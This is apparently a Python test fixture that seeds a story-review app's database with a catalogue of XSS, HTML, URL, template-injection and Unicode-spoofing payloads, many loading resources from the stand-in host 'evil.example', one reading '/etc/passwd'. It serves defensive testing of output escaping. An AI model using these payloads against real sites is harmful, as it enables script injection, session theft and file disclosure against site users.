"""What a hostile page, reader or editor may write to have a browser run something; and a database full of it.

Each string sets `__hit`, opens a dialog or asks EVIL for something if it is ever taken for markup, a script, a style,
an address or a template. The shapes are the known ones: tags, attributes, addresses of other schemes, SVG and MathML,
text that ends an element, templates of servers and browsers, attributes of htmx, styles, and letters that look like
others or turn the direction of writing.
"""

import json
from datetime import datetime
from itertools import cycle

from sqlite_utils import Database

from reading.sent import Contact, Kind, Sent
from storage import submissions
from storage.database import stamp, writing
from storage.decisions import decide
from storage.edits import edit
from storage.filters import Filters
from storage.log import Field, Verb
from storage.searches import save
from tests.builders import tell

EVIL = "http://evil.example"
HIT = "window.__hit=1"
TAGS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT SRC={EVIL}/1.js></SCRIPT>",
    f"<script/x>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<img src=x onerror={HIT}>",
    f"<img src={EVIL}/2.png>",
    f"<img/src=x\tonerror\n=\n{HIT}>",
    f"<image src=x onerror={HIT}>",
    f"<body onload={HIT}>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<iframe src={EVIL}/3></iframe>",
    f"<object data={EVIL}/4></object>",
    f"<embed src={EVIL}/5>",
    f"<video src=x onerror={HIT}><source onerror={HIT}></video>",
    f"<audio autoplay src={EVIL}/6 onerror={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<marquee onstart={HIT}>",
    f"<dialog open onclose={HIT}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<button popovertarget=y onclick={HIT}>x</button><p popover id=y onbeforetoggle={HIT}>y",
    f"<form action={EVIL}/7><button>Approve</button></form>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/8">',
    f"<link rel=stylesheet href={EVIL}/9.css>",
    f"<link rel=prefetch href={EVIL}/10>",
    f"<template><script>{HIT}</script></template>",
    f"<x onclick={HIT} autofocus tabindex=1 onfocus={HIT} style=display:block>x</x>",
)
DRAWN = (
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href={EVIL}/11.js></script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>",
    f"<svg><use href={EVIL}/12.svg#x></use></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>",
    f"<math href=javascript:{HIT}>x</math>",
)
ATTRIBUTES = (
    f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}' x='",
    f"` onfocus=`{HIT}` autofocus x=`",
    f" autofocus onfocus={HIT} ",
    f'"><script>{HIT}</script>',
    f"'><img src=x onerror={HIT}>",
    f'" style="background:url({EVIL}/13)" x="',
    f'" formaction="javascript:{HIT}" x="',
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"javascript://blog.example/%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"data:text/html;base64,{'PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg=='}",
    f"vbscript:{HIT}",
    f'http://blog.example/"onmouseover="{HIT}',
    f"http://blog.example/'><img src=x onerror={HIT}>",
    f"http://blog.example/#<script>{HIT}</script>",
    f"//{EVIL.removeprefix('http://')}/14",
    f"http://[<script>{HIT}</script>]/",
)
ENDS = (
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</style><img src=x onerror={HIT}>",
    f"</option></select><img src=x onerror={HIT}>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script><![CDATA[",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"<plaintext><script>{HIT}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
)
TEMPLATES = (
    "{{ 7*7 }}{{ config }}{{ ''.__class__ }}",
    "{% raw %}{% endraw %}{% include '/etc/passwd' %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {alert(1)}",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"<p hx-get={EVIL}/15 hx-trigger=load></p>",
    f"<p data-hx-get={EVIL}/16 data-hx-trigger=load></p>",
    f"<p hx-on:load={HIT} hx-on::load={HIT} hx-trigger=load></p>",
    "<form hx-post=/undo hx-trigger=load><input name=number value=1></form>",
    f"<p hx-get=/ hx-vals='js:{{x:{HIT}}}' hx-trigger=\"load[{HIT}]\"></p>",
    f"<p hx-ext=x _='on load {HIT}' x-data x-init={HIT} ng-app ng-init={HIT}></p>",
    f"<style>*{{background:url({EVIL}/17)}}</style>",
    f"<p style=\"background:url('{EVIL}/18');width:expression({HIT})\">",
    f"<style>@import '{EVIL}/19.css';</style>",
)
LETTERS = (
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\u02bascript\u2039{HIT}\u203a",
    f"<\x00script>{HIT}</script>",
    f"<scr\u0000ipt>{HIT}</script\u200b>",
    f"<img src=x onerror\u000c={HIT}>",
    f"\ufeff<script>{HIT}</script>",
    "\u202etpircs\u202c \u2066left\u2069 \u200f\u061cright",
    f"\u2028{HIT}\u2029//",
    f"\u0130<img src=x onerror={HIT}>\u212a",
    "Z\u0351\u036b\u0343\u036a\u0302\u036bͫ\u0324a" * 30,
    f"a\ud800<img src=x onerror={HIT}>".encode("utf-8", "ignore").decode(),
)
STRINGS = (*TAGS, *DRAWN, *ATTRIBUTES, *ADDRESSES, *ENDS, *TEMPLATES, *LETTERS)

KIND = "The night porter drove my mother home himself, forty kilometres in the snow, after his shift had ended. "


def fill(db: Database, private: Database, now: datetime) -> None:
    """Every string in every field that comes from elsewhere: six clusters of several tellings with all of them in turn,
    two of them published; submissions, searches and what editors wrote."""
    one = cycle(STRINGS)
    for place, string in enumerate(STRINGS):
        cluster = f"c{place % 6}"
        tell(
            db,
            cluster,
            f"{KIND}{string}\n{next(one)}",
            before=f"{next(one)}\n",
            after=f"\n{next(one)}",
            place=1 if place % 3 == 0 else None,
            title=string,
            author=next(one),
            url=ADDRESSES[place // 6 % len(ADDRESSES)] + (f"?{place}" if place % 2 else f"/{place}"),
            companies=[next(one), string],
            because=[next(one), f"what happens: {string}"],
            shared=[next(one)],
            language="en",
            relation="first" if place < 6 else "retelling",
        )
    _what_stands_around(db, now)
    for place, string in enumerate(STRINGS):
        _say(db, f"c{place % 6}", place, string, now)
        sent = Sent(
            kind=list(Kind)[place % 3],
            url=None if place % 3 == 2 else ADDRESSES[place % len(ADDRESSES)] + str(place),
            title=string[:200],
            words=KIND + string,
            printed=string[:100],
        )
        submissions.add(db, private, sent, Contact(name=string, mail=string, consent=string), now, who=string)


def _say(db: Database, cluster: str, place: int, string: str, now: datetime) -> None:
    decide(db, cluster, Verb.NOTE, who=string, at=now, note=string)
    if place < 12:
        name = "".join(letter for letter in string if letter.isprintable())[:80]
        save(db, name, Filters(words=string, company=(string,), source=(string,)), who=string, at=now, public=True)
        field = (Field.SUMMARY, Field.TITLE, Field.COMPANIES)[place % 3]
        edit(db, cluster, field, [string[:100]] if field is Field.COMPANIES else string, who=string, at=now)
    if place < 2:
        decide(db, cluster, Verb.APPROVE, who=string, at=now, note=string)


def _what_stands_around(db: Database, now: datetime) -> None:
    """The titles of the pages, and their pictures and videos."""
    one = cycle(STRINGS)
    media = [{"kind": "video", "url": url, "alt": next(one)} for url in ADDRESSES]
    with writing(db):
        for (id,) in db.conn.execute("select id from documents").fetchall():
            values = (next(one), json.dumps(media), stamp(now), id)
            db.conn.execute("update documents set title = ?, media = ?, read_at = ? where id = ?", values)
